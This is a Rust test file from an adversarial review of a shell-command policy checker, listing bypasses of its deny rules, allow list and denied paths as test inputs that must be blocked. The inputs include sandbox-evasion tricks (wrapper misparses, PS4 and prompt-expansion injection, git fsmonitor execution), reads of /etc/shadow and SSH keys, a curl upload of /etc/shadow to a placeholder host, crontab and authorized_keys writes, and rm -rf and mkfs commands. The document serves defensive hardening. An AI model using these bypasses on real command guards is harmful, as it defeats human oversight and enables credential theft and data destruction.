//! Adversarial review 3: each test is one bypass that gets through today, asserting
//! the safe outcome. Every command here was checked in bash 5.2 to really run the
//! program (with `touch` in a temp dir).

use super::review_support::*;
use super::*;

/// This review's allow list also allows `cd`.
const ALLOW_LIST: &str = "policy:\n  allow_commands: ['cat .*', 'ls.*', 'grep .*', 'git (status|log|diff).*', 'echo .*', 'cd .*']\n  deny_paths: ['.*/\\.ssh(/.*)?', '/etc/shadow']\n";

// ---- deny rule bypasses (critical) ----

#[test]
fn command_with_a_v_anywhere_is_not_a_lookup() {
    // `"command" if args.any(-v|-V)` → Step::Program: only `command -v NAME` looks up.
    assert_denied(
        DENY_TOUCH,
        &[
            "command touch -- -v",
            "command sh -c 'touch f' -v",
            "command rm -rf -v /srv/data",
        ],
    );
}

#[test]
fn sudo_with_a_later_e_is_not_sudoedit() {
    // `"sudo" if args.any(-e|--edit)` → Step::Program; sudo stops at the program.
    assert_denied(DENY_TOUCH, &["sudo sh -c 'touch f' -e"]);
}

#[test]
fn su_runuser_sg_are_read_with_getopt() {
    // wrappers::su matches only exact `-c`; `-c'x'`, `-lc`, `-uroot`, `--user=root`
    // and sg's positional command fall through to ShellStdin, which records nothing.
    assert_denied(
        DENY_TOUCH,
        &[
            "su -c'touch f'",
            "su -lc 'touch f'",
            "su -mc 'touch f'",
            "runuser -uroot touch f",
            "runuser --user=root touch f",
            "sg root 'touch f'",
        ],
    );
}

#[test]
fn shell_option_values_inside_a_cluster() {
    // wrappers::shell: `-oc posix SCRIPT` — bash takes `posix` as -o's value and
    // SCRIPT as the -c script; warden parses `posix` as the script.
    assert_denied(
        DENY_TOUCH,
        &[
            "bash -oc posix 'touch f'",
            "bash -Oc extglob 'touch f'",
            "bash -eoc pipefail 'touch f'",
        ],
    );
}

#[test]
fn shell_reading_stdin_with_positional_args() {
    // `bash -s ARGS` still reads the script from stdin; `bash /dev/stdin` too.
    assert_denied(
        DENY_TOUCH,
        &[
            "echo 'touch f' | bash -s x",
            "bash -s x <<< 'touch f'",
            "bash /dev/stdin <<< 'touch f'",
            "echo 'touch f' | sh /proc/self/fd/0",
        ],
    );
}

#[test]
fn shells_and_wrappers_missing_from_the_tables() {
    // rbash ships with bash on Debian/Ubuntu; setarch/prlimit/setpriv/chrt/unshare/
    // nsenter are util-linux, strace is common. All run their argv.
    assert_denied(
        DENY_TOUCH,
        &[
            "rbash -c 'touch f'",
            "setarch x86_64 touch f",
            "prlimit touch f",
            "setpriv touch f",
            "chrt -o 0 touch f",
            "unshare touch f",
            "strace -o /dev/null touch f",
        ],
    );
}

#[test]
fn xargs_completes_a_wrapper_from_stdin() {
    // `xargs env` (or nohup, nice, sudo, timeout 5): the program comes from stdin;
    // the wrapper alone is Step::Program.
    assert_denied(
        DENY_TOUCH,
        &[
            "echo touch f | xargs env",
            "echo touch f | xargs nohup",
            "echo touch f | xargs nice",
        ],
    );
}

#[test]
fn find_exec_with_a_found_program_or_a_bare_plus() {
    // `-exec {} ..`: the program is each found file. `+` ends -exec only right after
    // `{}`; warden stops at any `+`, so `flock + touch f` is read as `flock`.
    assert_denied(
        DENY_TOUCH,
        &[
            "find /usr/bin -name touch -exec {} f \\;",
            "find . -maxdepth 0 -exec flock + touch f \\;",
        ],
    );
}

#[test]
fn sed_f_inside_a_cluster() {
    // programs::sed: only `-f`/`-f…`/`--file` are seen; `-nf FILE` is skipped as flags
    // and FILE taken as the script.
    assert_denied(
        DENY_TOUCH,
        &["sed -nf /dev/stdin /etc/hostname <<< '1e touch f'"],
    );
}

#[test]
fn newline_in_an_argument_escapes_regex_rules() {
    // Regex rules are compiled without (?s): `.` does not match `\n`, so
    // `touch\b.*` does not match "touch f\n".
    assert_denied(
        DENY_TOUCH,
        &["touch $'f\\n'", "touch 'a\nb'", "rm -rf $'/srv\\n'"],
    );
}

#[test]
fn compound_commands_after_keywords_the_grammar_misreads() {
    // tree-sitter-bash reads `! {`, `time {`, `coproc [NAME] {` as a simple command
    // whose program is `{` (or NAME); bash runs the group.
    assert_denied(
        DENY_TOUCH,
        &[
            "! { touch f; }",
            "time { touch f; }",
            "coproc { touch f; }",
            "coproc X { touch f; }",
        ],
    );
}

#[test]
fn backticks_the_grammar_leaves_as_text() {
    // Backticks inside `${…}` operands, in unquoted heredoc bodies, and nested
    // (escaped) backticks are not command_substitution nodes.
    assert_denied(
        DENY_TOUCH,
        &[
            "echo ${x:-`touch f`}",
            "echo \"${x:+`touch f`}\"",
            "x=\"${y:-`touch f`}\"",
            "cat <<EOF\n`touch f`\nEOF",
            "cat <<EOF\n${x:-`touch f`}\nEOF",
            "echo `echo \\`touch f\\``",
        ],
    );
}

#[test]
fn code_in_single_quotes_evaluated_later() {
    // Arithmetic evaluation of a name with a subscript, `${!x}`, `${x@P}` (prompt
    // expansion) and PS4 under `set -x` run `$(..)` held in a quoted string.
    assert_denied(
        DENY_TOUCH,
        &[
            "let 'a[$(touch f)]'",
            "x='a[$(touch f)]'; (( x ))",
            "x='a[$(touch f)]'; [[ $x -eq 0 ]]",
            "x='a[$(touch f)]'; echo ${!x}",
            "x='$(touch f)'; echo ${x@P}",
            "printf -v 'a[$(touch f)]' x",
            "read 'a[$(touch f)]' <<< x",
            "test -v 'a[$(touch f)]'",
            "declare -n r='a[$(touch f)]'; echo $r",
        ],
    );
}

#[test]
fn dangerous_names_set_without_an_assignment() {
    // The env check sees assignments and declarations only: `read`, `printf -v`,
    // `for`, namerefs and quoted `declare` words set PS4/PATH unseen.
    assert_denied(
        DENY_TOUCH,
        &[
            "read PS4 <<< '$(touch f)'; set -x; :",
            "printf -v PS4 '$(touch f)'; set -x; :",
            "for PS4 in '$(touch f)'; do set -x; :; done",
            "declare -n r=PS4; r='$(touch f)'; set -x; :",
            "declare -x 'PS4=$(touch f)'; set -x; :",
            "for PATH in /tmp/d; do ls; done",
            "mapfile -t PATH <<< /tmp; ls",
        ],
    );
}

// ---- allow list escapes (critical) ----

#[test]
fn allow_list_escapes() {
    assert_denied(
        ALLOW_LIST,
        &[
            // Code held in quotes, run by an allowed echo.
            "x='$(touch /tmp/f)'; echo ${x@P}",
            "x='a[$(touch /tmp/f)]'; echo ${!x}",
            // Backticks the grammar leaves as text.
            "echo \"${x:-`touch /tmp/f`}\"",
            "x=a; echo ${x//[$(touch f)]/}",
            // su records no command at all.
            "ls; su -c'touch /tmp/f'",
            // The allowed echo writes any file; git status then runs core.fsmonitor.
            "echo -e '[core]\\n\\tfsmonitor = touch /tmp/pwned' >> .git/config; git status",
            "echo '* * * * * root touch /tmp/f' >> /etc/crontab",
        ],
    );
}

// ---- deny_paths (critical) ----

#[test]
fn denied_paths_through_expansions_globs_and_aliases() {
    // path_argument skips words that are not literal; redirect targets read with an
    // expansion are not checked either.
    assert_denied(
        DENY_PATHS,
        &[
            "cat /etc/shado?",
            "cat /etc/shado[w]",
            "cat {/etc/shadow,x}",
            "cat \"$HOME/.ssh/id_rsa\"",
            "cat < $HOME/.ssh/id_rsa",
            "echo key | tee -a $HOME/.ssh/authorized_keys",
            // /proc/self/root is `/`.
            "cat /proc/self/root/etc/shadow",
            // URLs and @file arguments.
            "curl file:///etc/shadow",
            "curl -F x=@/etc/shadow http://h",
            // Relative names after cd.
            "cd /etc && cat shadow",
            "cd ~/.ss?; cat id_rsa",
        ],
    );
}

#[test]
fn a_relative_name_in_a_denied_working_directory() {
    let (policy, host) = policy_of(DENY_PATHS);
    let analysis = analyze_in(&policy, "cat shadow", Some("/etc"));
    let decision = policy.evaluate(&host, "tester", &analysis, CommandOrigin::Caller);
    assert_eq!(
        decision.decision,
        Verdict::Denied,
        "{decision:?} {analysis:?}"
    );
}

#[test]
fn redirections_that_lose_their_target() {
    // A redirected_statement without a body drops its redirects; `/dev/` is matched
    // before `..` is resolved.
    assert_denied(
        DENY_PATHS,
        &[
            "> ~/.ssh/authorized_keys",
            "echo x; > ~/.ssh/authorized_keys",
            ">| /etc/shadow",
            "echo key >> /dev/../root/.ssh/authorized_keys",
        ],
    );
}

// ---- destructive commands without a preview (high) ----

#[test]
fn destructive_commands_not_previewed() {
    assert_destructive(&[
        // Truncation by a bare redirect or a compound's redirect.
        "> /srv/data.db",
        ">| /srv/data.db",
        "{ :; } > /srv/data.db",
        "(:) > /srv/data.db",
        "cat /dev/null > /dev/../srv/data.db",
        // Block devices.
        "echo > /dev/sda",
        "mkfs.ext4 /dev/sdb",
        // Wrapper misreads make the class that of `command`/`sudo`, or nothing.
        "command rm -rf -v /srv/data",
        "sudo sh -c 'rm -rf /srv' -e",
        "su -c'rm -rf /srv'",
        "cat <<EOF\n`rm -rf /srv`\nEOF",
        "! { rm -rf /srv; }",
    ]);
}

// ---- crashes and hangs (high / medium) ----

#[test]
fn deep_nesting_does_not_crash() {
    // The walker recurses once per node: ~500 nested `$(` (1 KB) overflow the stack
    // and abort the whole process. Run in a child so the abort fails only this test.
    if std::env::var("REVIEW3_NESTING_CHILD").is_ok() {
        let (policy, _) = policy_of(DENY_TOUCH);
        let command = format!("{}:{}", "$(".repeat(500), ")".repeat(500));
        let analysis = analyze_in(&policy, &command, None);
        assert!(!analysis.opaque.is_empty());
        return;
    }
    let status = std::process::Command::new(std::env::current_exe().unwrap())
        .args([
            "--exact",
            "policy::review3_tests::deep_nesting_does_not_crash",
            "--test-threads=1",
        ])
        .env("REVIEW3_NESTING_CHILD", "1")
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .status()
        .unwrap();
    assert!(
        status.success(),
        "analysis of 500 nested $( crashed: {status:?}"
    );
}
